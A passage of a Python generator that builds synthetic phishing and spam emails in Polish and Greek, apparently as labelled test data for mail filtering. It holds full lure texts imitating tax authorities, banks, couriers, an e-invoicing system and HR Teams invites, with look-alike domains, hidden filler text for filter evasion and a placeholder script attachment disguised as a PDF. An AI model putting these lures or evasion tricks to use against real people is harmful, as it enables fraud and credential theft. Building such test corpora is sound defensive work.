                   dmarc=("none", "inpost-paczka24.pl", "NONE"), seed=seed)
    return mk(folder=F, nn=32, lang="pl", short="inpost-doplata", charset="windows-1250",
              desc="HTML-only parcel-locker 'surcharge' phish asking for a tiny BLIK/card payment to release a parcel.",
              when=when, frm=M.addr("InPost", "powiadomienia@inpost-paczka24.pl"), to=M.addr("", a),
              subject="Paczka 693402158841227011430 wstrzymana – dopłata 1,99 zł", subj_cs="windows-1250",
              root=root, mail_from="powiadomienia@inpost-paczka24.pl", helo="inpost-paczka24.pl", rdns=None,
              ip="103.147.185.22", tls=False, auth=auth, msgid=msgid_generic(seed, "inpost-paczka24.pl", when))


def a33():
    seed = "a33"
    when = M.dt(2, 9, 55, 30, "PL")
    n, a = who("k.nowak")
    nip = M.pl_nip("899287461")
    ksef = "%s-20261201-5A3C1D9E7F21-4B" % nip
    link = "https://ksef-podatki.gov-pl.info/web/login?ref=" + M.hexid(seed, 16)
    plain = """Ministerstwo Finansów – Krajowy System e-Faktur

Uprzejmie informujemy, że w Krajowym Systemie e-Faktur udostępniono nową fakturę ustrukturyzowaną wystawioną na Państwa firmę.

Nabywca: EXAMPLE GROUP SP. Z O.O.
Numer KSeF: %s
Wystawca: TRANS-BUD SERWIS SP. Z O.O.
Kwota brutto: 18 742,50 PLN
Termin płatności: 08.12.2026

W związku z aktualizacją KSeF 2.0 pierwszy odbiór faktury w nowym Module Faktur wymaga ponownego uwierzytelnienia (Profil Zaufany, token KSeF lub login firmowy Microsoft 365):

%s

Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.
""" % (ksef, link)
    html = html_doc("""
<table width="600" style="font-family:Lato,Arial,sans-serif;font-size:14px;border:1px solid #d0d7e1">
<tr><td style="background:#0052a5;color:#fff;padding:16px 20px"><b>Krajowy System e-Faktur</b> · Ministerstwo Finansów</td></tr>
<tr><td style="padding:20px">
<p>Uprzejmie informujemy, że w Krajowym Systemie e-Faktur udostępniono nową fakturę ustrukturyzowaną wystawioną na Państwa firmę.</p>
<table cellpadding="4" style="font-size:13px;background:#f4f7fb;width:100%%">
<tr><td>Numer KSeF:</td><td><b>%s</b></td></tr><tr><td>Wystawca:</td><td>TRANS-BUD SERWIS SP. Z O.O.</td></tr>
<tr><td>Kwota brutto:</td><td>18 742,50 PLN</td></tr><tr><td>Termin płatności:</td><td>08.12.2026</td></tr></table>
<p>W związku z aktualizacją KSeF 2.0 pierwszy odbiór faktury wymaga ponownego uwierzytelnienia.</p>
<p><a href="%s" style="background:#0052a5;color:#fff;padding:10px 26px;text-decoration:none">Odbierz fakturę</a></p>
<p style="font-size:11px;color:#777">Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.</p>
</td></tr></table>""" % (ksef, link), "KSeF", lang="pl")
    root = alt(seed, plain, html, "utf-8", style="eq")
    auth = authres(spf=("pass", "powiadomienia@ksef-mf.com.pl", "45.95.147.212"),
                   dkim_=("pass", "ksef-mf.com.pl", "default"), dmarc=("pass", "ksef-mf.com.pl", "NONE"), seed=seed)
    return mk(folder=F, nn=33, lang="pl", short="ksef-faktura", charset="utf-8",
              desc="Credential phish exploiting the new Polish national e-invoicing system, announcing a structured invoice that needs re-authentication on a look-alike portal.",
              when=when, frm=M.addr("Krajowy System e-Faktur (KSeF)", "powiadomienia@ksef-mf.com.pl"), to=M.addr(n, a),
              subject="KSeF: nowa faktura ustrukturyzowana do odbioru – " + ksef, root=root,
              mail_from="powiadomienia@ksef-mf.com.pl", helo="mail.ksef-mf.com.pl", rdns=None, ip="45.95.147.212",
              auth=auth, pre=[("DKIM-Signature", dkim("ksef-mf.com.pl", "default", seed, when))],
              msgid=msgid_generic(seed, "ksef-mf.com.pl", when))


def a34():
    seed = "a34"
    when = M.dt(3, 7, 31, 45, "PL")
    n, a = who("a.kowalczyk")
    body = """Szanowni Państwo,

działając w imieniu i na rzecz naszego Klienta, na podstawie udzielonego pełnomocnictwa, wzywamy do zapłaty kwoty 12 480,00 zł wraz z odsetkami ustawowymi za opóźnienie w transakcjach handlowych, z tytułu nieuregulowanych faktur wymienionych w załączonym zestawieniu.

Należność prosimy uregulować w nieprzekraczalnym terminie 3 dni od dnia otrzymania niniejszego wezwania.

Szczegóły sprawy, kopie faktur oraz dane do przelewu znajdują się w załączonym archiwum (WZ_2026_11_0457.zip).

Brak wpłaty w wyznaczonym terminie spowoduje skierowanie sprawy na drogę postępowania sądowego oraz wpis do Krajowego Rejestru Długów, co narazi Państwa na dodatkowe koszty.

Z poważaniem
r.pr. Karol Duda
Kancelaria Windykacyjna Lex-Debt
"""
    js = b"// PLACEHOLDER - harmless test content standing in for a JScript dropper. Not functional.\r\n"
    z = M.zipfile_bytes([("Wezwanie_do_zaplaty_WZ-2026-11-0457.pdf.js", js)], date_time=(2026, 12, 3, 7, 20, 10))
    root = M.multipart("mixed", [M.text(body, "plain", "iso-8859-2", "base64"),
                                 M.attachment(z, "application/zip", "WZ_2026_11_0457.zip")], bnd(seed, "b1"))
    auth = authres(spf=("pass", "windykacja@lexdebt-kancelaria.pl", "91.92.249.101"), dkim_=None,
                   dmarc=("none", "lexdebt-kancelaria.pl", "NONE"), seed=seed)
    return mk(folder=F, nn=34, lang="pl", short="wezwanie-zip-js", charset="iso-8859-2",
              desc="Pre-litigation payment demand from a sham debt-collection firm with a ZIP holding a script disguised as a PDF (placeholder).",
              when=when, frm=M.addr("Kancelaria Windykacyjna Lex-Debt", "windykacja@lexdebt-kancelaria.pl"),
              to=M.addr(n, a, "iso-8859-2"), subject="Przedsądowe wezwanie do zapłaty – sprawa nr WZ/2026/11/0457",
              subj_cs="iso-8859-2", root=root, mail_from="windykacja@lexdebt-kancelaria.pl", helo="lexdebt-kancelaria.pl",
              rdns="91-92-249-101.cloudvps.pl", ip="91.92.249.101", auth=auth,
              msgid=msgid_generic(seed, "lexdebt-kancelaria.pl", when))


def a35():
    seed = "a35"
    when = M.dt(28, 20, 14, 2, "PL")
    n, a = who("p.wisniewski")
    link = "https://orlen-invest.top/pl/?c=wro&id=" + M.hexid(seed, 10)
    hidden = "pogoda jutro przepis na sernik mecz wynik tramwaj kino rower las kawa"
    plain = """Panie Piotrze,

nowa platforma inwestycyjna pozwala Polakom zarabiać na wzroście akcji największej polskiej spółki paliwowej.

Inwestując już od 1 000 zł, można zarabiać nawet 18 000 zł miesięcznie. Transakcje wykonuje za Pana sztuczna inteligencja – nie potrzeba doświadczenia.

"Zacząłem od 1 200 zł, dziś mam stały dochód 14 000 zł miesięcznie" – Marek, 52 lata, Łódź

Liczba miejsc w programie jest ograniczona. Zarejestruj się, a nasz doradca zadzwoni w ciągu 15 minut:
%s

Aby zrezygnować z subskrypcji, kliknij tutaj: https://orlen-invest.top/unsub?e=%s
""" % (link, M.hexid(seed + "u", 10))
    html = html_doc("""
<div style="max-width:600px;margin:auto;font-family:Arial;border:1px solid #ddd">
<div style="background:#e30613;color:#fff;padding:18px;font-size:22px"><b>ORLEN</b> Inwestycje</div>
<div style="padding:20px;font-size:15px">
<p>Panie Piotrze,</p>
<p>Inwestując już od <b>1 000 zł</b>, można zarabiać nawet <b style="color:#e30613">18 000 zł miesięcznie</b>. Transakcje wykonuje za Pana sztuczna inteligencja.</p>
<p style="background:#f5f5f5;padding:10px;font-style:italic">„Zacząłem od 1 200 zł, dziś mam stały dochód 14 000 zł miesięcznie” – Marek, 52 lata, Łódź</p>
<p style="text-align:center"><a href="%s" style="background:#e30613;color:#fff;padding:14px 30px;text-decoration:none;font-weight:bold">ZAREJESTRUJ SIĘ</a></p>
</div>
<div style="font-size:0;color:#fff;line-height:0;max-height:0;overflow:hidden">%s</div>
<p style="font-size:10px;color:#999;text-align:center"><a href="https://orlen-invest.top/unsub?e=%s">Zrezygnuj z subskrypcji</a></p>
</div>""" % (link, hidden, M.hexid(seed + "u", 10)), lang="pl")
    root = alt(seed, plain, html, "utf-8", "base64", style="b1")
    auth = authres(spf=("pass", "kontakt@orlen-inwestycje-pl.com", "185.246.221.9"),
                   dkim_=("pass", "orlen-inwestycje-pl.com", "s1"), dmarc=("pass", "orlen-inwestycje-pl.com", "NONE"), seed=seed)
    return mk(folder=F, nn=35, lang="pl", short="orlen-inwestycje", charset="utf-8",
              desc="Investment-fraud spam abusing a national fuel company's brand with fake testimonials, AI-trading promises and hidden filler text.",
              when=when, frm=M.addr("ORLEN Inwestycje", "kontakt@orlen-inwestycje-pl.com"), to=M.addr("", a),
              subject="Panie Piotrze, inwestując 1 000 zł w akcje ORLEN możesz zarabiać nawet 18 000 zł miesięcznie",
              root=root, mail_from="kontakt@orlen-inwestycje-pl.com", helo="mail.orlen-inwestycje-pl.com", rdns=None,
              ip="185.246.221.9", auth=auth, pre=[("DKIM-Signature", dkim("orlen-inwestycje-pl.com", "s1", seed, when))],
              msgid=msgid_generic(seed, "orlen-inwestycje-pl.com", when),
              extra=[("List-Unsubscribe", "<https://orlen-invest.top/unsub?e=%s>" % M.hexid(seed + "u", 10))])

# ------------------------------------------------------------------------------------------ Greek


def a36():
    seed = "a36"
    when = M.dt(30, 11, 18, 5, "GR")
    n, a = who("e.georgiou")
    link = "https://ipfs.io/ipfs/bafybei" + M.alnum(seed, 52, "abcdefghijklmnopqrstuvwxyz234567") + "/index.html?taxisnet"
    plain = """Αγαπητέ/ή φορολογούμενε,

Μετά τον τελικό υπολογισμό της ετήσιας φορολογικής σας δήλωσης, δικαιούστε επιστροφή φόρου ύψους 486,20 €.

Για να πιστωθεί το ποσό στον τραπεζικό σας λογαριασμό, παρακαλούμε επιβεβαιώστε τα στοιχεία σας (IBAN και στοιχεία κάρτας) έως τις 04/12/2026 μέσω της πλατφόρμας myAADE:

%s

Σε περίπτωση μη επιβεβαίωσης, το αίτημα επιστροφής θα ακυρωθεί.

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
""" % link
    html = html_doc("""<div style="max-width:600px;margin:auto;font-family:Arial;font-size:14px">
<div style="background:#003476;color:#fff;padding:14px 18px;font-size:18px"><b>ΑΑΔΕ</b> · myAADE</div>
<div style="padding:18px;border:1px solid #ddd">
<p>Αγαπητέ/ή φορολογούμενε,</p>
<p>Μετά τον τελικό υπολογισμό της ετήσιας φορολογικής σας δήλωσης, δικαιούστε <b>επιστροφή φόρου ύψους 486,20 €</b>.</p>
<p>Για να πιστωθεί το ποσό, παρακαλούμε επιβεβαιώστε τα στοιχεία σας έως τις <b>04/12/2026</b>.</p>
<p style="text-align:center"><a href="%s" style="background:#003476;color:#fff;padding:12px 28px;text-decoration:none">Υποβολή αιτήματος επιστροφής</a></p>
<p>Με εκτίμηση,<br>Ανεξάρτητη Αρχή Δημοσίων Εσόδων</p></div></div>""" % link, "myAADE", lang="el", cs="iso-8859-7")
    root = alt(seed, plain, html, "iso-8859-7", style="b1")
    auth = authres(spf=("pass", "noreply@aade-epistrofi.gr.com", "193.42.33.18"), dkim_=None,
                   dmarc=("none", "aade-epistrofi.gr.com", "NONE"), seed=seed)
    return mk(folder=F, nn=36, lang="el", short="aade-epistrofi", charset="iso-8859-7",
              desc="Tax-refund phish imitating the Greek tax authority, asking for IBAN and card details on a page hosted on a public IPFS gateway.",
              when=when, frm=M.addr("ΑΑΔΕ - myAADE", "noreply@aade-epistrofi.gr.com", "iso-8859-7"), to=M.addr("", a),
              subject="Επιστροφή φόρου 2026: εκκρεμεί πίστωση 486,20 €", subj_cs="iso-8859-7", root=root,
              mail_from="noreply@aade-epistrofi.gr.com", helo="aade-epistrofi.gr.com", rdns=None, ip="193.42.33.18",
              auth=auth, msgid=msgid_generic(seed, "aade-epistrofi.gr.com", when))


def a37():
    seed = "a37"
    when = M.dt(1, 13, 2, 48, "GR")
    n, a = who("n.konstantinou")
    link = "https://acs-gr.track-redelivery.com/gr/?id=7412098836&t=" + M.hexid(seed, 8)
    html = html_doc("""<div style="max-width:580px;margin:auto;font-family:Tahoma,Arial;font-size:14px;color:#222">
<div style="background:#e2001a;color:#fff;padding:16px;font-size:22px;font-weight:bold">ACS Courier</div>
<div style="padding:20px;border:1px solid #e5e5e5">
<p>Αγαπητέ πελάτη,</p>
<p>Η αποστολή σας με αριθμό <b>7412098836</b> δεν μπόρεσε να παραδοθεί λόγω ελλιπούς διεύθυνσης παραλήπτη.</p>
<p>Για επαναπρογραμματισμό της παράδοσης απαιτείται επιβεβαίωση της διεύθυνσης και πληρωμή τέλους επαναποστολής <b>1,45 €</b>.</p>
<p style="text-align:center"><a href="%s" style="background:#e2001a;color:#fff;padding:12px 30px;text-decoration:none">Επιβεβαίωση διεύθυνσης</a></p>
<p>Αν δεν ολοκληρώσετε τη διαδικασία εντός 48 ωρών, το δέμα θα επιστραφεί στον αποστολέα.</p>
<p>Ευχαριστούμε,<br>ACS Courier</p></div></div>""" % link.replace("&", "&amp;"), "ACS", lang="el", cs="windows-1253")
    root = M.text(html, "html", "windows-1253", "base64")
    auth = authres(spf=("none", "info@acs-courier-gr.info", "62.204.41.166"), dkim_=None,
                   dmarc=("none", "acs-courier-gr.info", "NONE"), seed=seed)
    return mk(folder=F, nn=37, lang="el", short="acs-courier", charset="windows-1253",
              desc="HTML-only courier redelivery-fee phish in Greek from a look-alike domain, sent without TLS or authentication.",
              when=when, frm=M.addr("ACS Courier", "info@acs-courier-gr.info"), to=M.addr("", a),
              subject="Η αποστολή σας 7412098836 βρίσκεται σε αναμονή – επιβεβαιώστε τη διεύθυνση",
              subj_cs="windows-1253", root=root, mail_from="info@acs-courier-gr.info", helo="acs-courier-gr.info",
              rdns=None, ip="62.204.41.166", tls=False, auth=auth, msgid=msgid_generic(seed, "acs-courier-gr.info", when))


def a38():
    seed = "a38"
    when = M.dt(3, 8, 20, 59, "GR")
    n, a = who("g.papadopoulos")
    link = "https://piraeus-ebanking.gr-verify.com/business/login?session=" + M.hexid(seed, 20)
    plain = """Αξιότιμε πελάτη,

Σύμφωνα με την Οδηγία (ΕΕ) 2015/2366 (PSD2) και τις νέες απαιτήσεις ισχυρής ταυτοποίησης, η πρόσβασή σας στο Piraeus e-banking για επιχειρήσεις έχει περιοριστεί προσωρινά, καθώς τα στοιχεία επικοινωνίας σας δεν έχουν επαληθευτεί.

Για να αποφύγετε την οριστική αναστολή της πρόσβασης και την απόρριψη των εκκρεμών εντολών πληρωμής, ολοκληρώστε την επαλήθευση έως τις 05/12/2026:

%s

Σας ευχαριστούμε για την προτίμηση.
Τράπεζα Πειραιώς
""" % link
    html = html_doc("""<div style="max-width:600px;margin:auto;font-family:Arial;font-size:14px;color:#333">
<div style="background:#ffd200;padding:16px 20px;font-size:20px;color:#003a70"><b>Τράπεζα Πειραιώς</b></div>
<div style="padding:20px;border:1px solid #ddd">
<p>Αξιότιμε πελάτη,</p>
<p>Σύμφωνα με την Οδηγία (ΕΕ) 2015/2366 (PSD2), η πρόσβασή σας στο <b>Piraeus e-banking για επιχειρήσεις</b> έχει περιοριστεί προσωρινά, καθώς τα στοιχεία επικοινωνίας σας δεν έχουν επαληθευτεί.</p>
<p>Ολοκληρώστε την επαλήθευση έως τις <b>05/12/2026</b>:</p>
<p style="text-align:center"><a href="%s" style="background:#003a70;color:#fff;padding:12px 30px;text-decoration:none">Επαλήθευση τώρα</a></p>
<p>Σας ευχαριστούμε για την προτίμηση.<br>Τράπεζα Πειραιώς</p></div></div>""" % link, "Piraeus", lang="el")
    root = alt(seed, plain, html, "utf-8", style="eq")
    auth = authres(spf=("pass", "e-banking@piraeusbank-ebanking.com", "141.98.10.63"),
                   dkim_=("pass", "piraeusbank-ebanking.com", "default"),
                   dmarc=("pass", "piraeusbank-ebanking.com", "NONE"), seed=seed)
    return mk(folder=F, nn=38, lang="el", short="piraeus-ebanking", charset="utf-8",
              desc="Business e-banking credential phish in Greek from a fully authenticated look-alike bank domain citing PSD2 and threatening suspension.",
              when=when, frm=M.addr("Τράπεζα Πειραιώς", "e-banking@piraeusbank-ebanking.com"), to=M.addr(n, a),
              subject="Σημαντική ενημέρωση: απαιτείται επαλήθευση στοιχείων για το Piraeus e-banking", root=root,
              mail_from="e-banking@piraeusbank-ebanking.com", helo="mail.piraeusbank-ebanking.com", rdns=None,
              ip="141.98.10.63", auth=auth, pre=[("DKIM-Signature", dkim("piraeusbank-ebanking.com", "default", seed, when))],
              msgid=msgid_generic(seed, "piraeusbank-ebanking.com", when))


def a39():
    seed = "a39"
    when = M.dt(1, 15, 40, 3, "GR")
    n, a = who("e.georgiou")
    meet = "https://teams-microsoft-meet.com/l/meetup-join/19%3ameeting_" + M.alnum(seed, 40) + "%40thread.v2/0?context=hr"
    uid = M.msgid_uuid_raw(seed).upper()
    plain = """Έχετε προσκληθεί σε σύσκεψη Microsoft Teams.

Θέμα: Αξιολόγηση απόδοσης & αναπροσαρμογή αποδοχών 2027
Πότε: Πέμπτη 3 Δεκεμβρίου 2026, 11:00 - 11:30 (EET)

Πριν από τη σύσκεψη, συνδεθείτε με τον εταιρικό σας λογαριασμό για να δείτε το έγγραφο «Αναπροσαρμογή αποδοχών 2027 – Eleni Georgiou.pdf»:
%s

________________________________________________________________________________
Σύσκεψη Microsoft Teams
Συμμετοχή από υπολογιστή, εφαρμογή για κινητές συσκευές ή συσκευή αίθουσας
Κάντε κλικ εδώ για να συμμετάσχετε στη σύσκεψη: %s
Αναγνωριστικό σύσκεψης: 384 112 907 55
Κωδικός πρόσβασης: 7dQm4X
________________________________________________________________________________
""" % (meet, meet)
    ics = """BEGIN:VCALENDAR
METHOD:REQUEST
PRODID:Microsoft Exchange Server 2010
VERSION:2.0
BEGIN:VTIMEZONE
TZID:GTB Standard Time
BEGIN:STANDARD
DTSTART:16010101T040000
TZOFFSETFROM:+0300
TZOFFSETTO:+0200
RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=10
END:STANDARD
BEGIN:DAYLIGHT
DTSTART:16010101T030000
TZOFFSETFROM:+0200
TZOFFSETTO:+0300
RRULE:FREQ=YEARLY;INTERVAL=1;BYDAY=-1SU;BYMONTH=3
END:DAYLIGHT
END:VTIMEZONE
BEGIN:VEVENT
ORGANIZER;CN=HR - Example Group:mailto:hr-notifications@examplegroup-hr.com
ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=Eleni Georgiou:mailto:e.georgiou@example.com
DESCRIPTION;LANGUAGE=el-GR:Πριν από τη σύσκεψη συνδεθείτε για να δείτε το έγγραφο: %s
UID:%s
SUMMARY;LANGUAGE=el-GR:Αξιολόγηση απόδοσης & αναπροσαρμογή αποδοχών 2027
DTSTART;TZID=GTB Standard Time:20261203T110000
DTEND;TZID=GTB Standard Time:20261203T113000
CLASS:PUBLIC
PRIORITY:5
DTSTAMP:20261201T134003Z
TRANSP:OPAQUE
STATUS:CONFIRMED
SEQUENCE:0
LOCATION;LANGUAGE=el-GR:Σύσκεψη Microsoft Teams
X-MICROSOFT-CDO-BUSYSTATUS:TENTATIVE
X-MICROSOFT-SKYPETEAMSMEETINGURL:%s
BEGIN:VALARM
DESCRIPTION:REMINDER
TRIGGER;RELATED=START:-PT15M
ACTION:DISPLAY
END:VALARM
END:VEVENT
END:VCALENDAR
""" % (meet, uid, meet)
    cal = M.Part([("Content-Type", 'text/calendar; charset="utf-8"; method=REQUEST'),
                  ("Content-Transfer-Encoding", "base64")], M.transfer_encode(ics.encode("utf-8"), "base64", True))
    inner = M.multipart("alternative", [M.text(plain, "plain", "windows-1253", "quoted-printable"), cal], bnd(seed + "i"))
    root = M.multipart("mixed", [inner, M.attachment(ics, "application/ics", "invite.ics")], bnd(seed))
    auth = authres(spf=("pass", "hr-notifications@examplegroup-hr.com", "45.61.136.204"),
                   dkim_=("pass", "examplegroup-hr.com", "k1"), dmarc=("pass", "examplegroup-hr.com", "NONE"), seed=seed)
    return mk(folder=F, nn=39, lang="el", short="teams-invite-ics", charset="windows-1253",
              desc="Calendar-invite phish (ICS with method REQUEST) for a 'salary review' Teams meeting from a look-alike HR domain, with the credential link inside the invitation.",
              when=when, frm=M.addr("HR - Example Group", "hr-notifications@examplegroup-hr.com"), to=M.addr(n, a),
              subject="Πρόσκληση: Αξιολόγηση απόδοσης & αναπροσαρμογή αποδοχών 2027 @ Πέμ 3 Δεκ 2026 11:00 - 11:30 (EET)",
              subj_cs="windows-1253", root=root, mail_from="hr-notifications@examplegroup-hr.com",
              helo="mail.examplegroup-hr.com", rdns=None, ip="45.61.136.204", auth=auth,
              pre=[("DKIM-Signature", dkim("examplegroup-hr.com", "k1", seed, when))],
              msgid=msgid_outlook(seed, "eurprd09"), extra=[("Content-Class", "urn:content-classes:calendarmessage")])


def a40():
    seed = "a40"
    when = M.dt(5, 10, 7, 33, "GR")
    n, a = who("n.konstantinou")
    link = "https://amesa-daneia-online.gr/aitisi/?src=em&id=" + M.hexid(seed, 8)
    hidden = "καιρός αύριο συνταγή μουσακά ποδόσφαιρο ταξίδι θάλασσα καφές βιβλίο"
    plain = """Χρειάζεστε χρήματα άμεσα;

Δάνειο έως 50.000€ χωρίς δικαιολογητικά και χωρίς εγγυητές.
- Έγκριση σε 24 ώρες
- Ακόμη και με καταχώρηση στον Τειρεσία
- Χωρίς επίσκεψη σε τράπεζα

Κάντε αίτηση τώρα: %s

Για διαγραφή από τη λίστα: https://amesa-daneia-online.gr/unsub?e=%s
""" % (link, M.hexid(seed + "u", 10))
    html = html_doc("""<div style="max-width:600px;margin:auto;font-family:Arial;text-align:center">
<h1 style="color:#0a7d2c">Δάνειο έως 50.000€</h1>
<h2>χωρίς δικαιολογητικά – έγκριση σε 24 ώρες!</h2>
<p style="font-size:16px">Ακόμη και με καταχώρηση στον Τειρεσία. Χωρίς εγγυητές. Χωρίς επίσκεψη σε τράπεζα.</p>
<p><a href="%s" style="background:#0a7d2c;color:#fff;padding:16px 40px;font-size:20px;text-decoration:none">ΑΙΤΗΣΗ ΤΩΡΑ</a></p>
<div style="display:none">%s</div>
<p style="font-size:10px;color:#aaa"><a href="https://amesa-daneia-online.gr/unsub?e=%s">Διαγραφή</a></p></div>""" % (
        link, hidden, M.hexid(seed + "u", 10)), "Δάνεια", lang="el", cs="iso-8859-7")
    root = alt(seed, plain, html, "iso-8859-7", "base64", style="b1")
    auth = authres(spf=("pass", "info@amesa-daneia-online.gr", "79.110.62.91"),
                   dkim_=("pass", "amesa-daneia-online.gr", "mail"), dmarc=("pass", "amesa-daneia-online.gr", "NONE"), seed=seed)
    return mk(folder=F, nn=40, lang="el", short="daneia-spam", charset="iso-8859-7",
              desc="Bulk loan spam in Greek promising no-document loans even with a bad credit record, with hidden filler text.",
              when=when, frm=M.addr("Άμεσα Δάνεια", "info@amesa-daneia-online.gr", "iso-8859-7"), to=M.addr("", a),
              subject="Δάνειο έως 50.000€ χωρίς δικαιολογητικά – έγκριση σε 24 ώρες!", subj_cs="iso-8859-7",
              root=root, mail_from="info@amesa-daneia-online.gr", helo="mta12.amesa-daneia-online.gr",
              rdns="mta12.amesa-daneia-online.gr", ip="79.110.62.91", auth=auth,
              pre=[("DKIM-Signature", dkim("amesa-daneia-online.gr", "mail", seed, when))],
              msgid=msgid_generic(seed, "amesa-daneia-online.gr", when),
              extra=[("List-Unsubscribe", "<https://amesa-daneia-online.gr/unsub?e=%s>" % M.hexid(seed + "u", 10)),
                     ("Precedence", "bulk")])


ALL = [a01, a02, a03, a04, a05, a06, a07, a08, a09, a10, a11, a12, a13, a14, a15, a16, a17, a18, a19, a20,
       a21, a22, a23, a24, a25, a26, a27, a28, a29, a30, a31, a32, a33, a34, a35, a36, a37, a38, a39, a40]
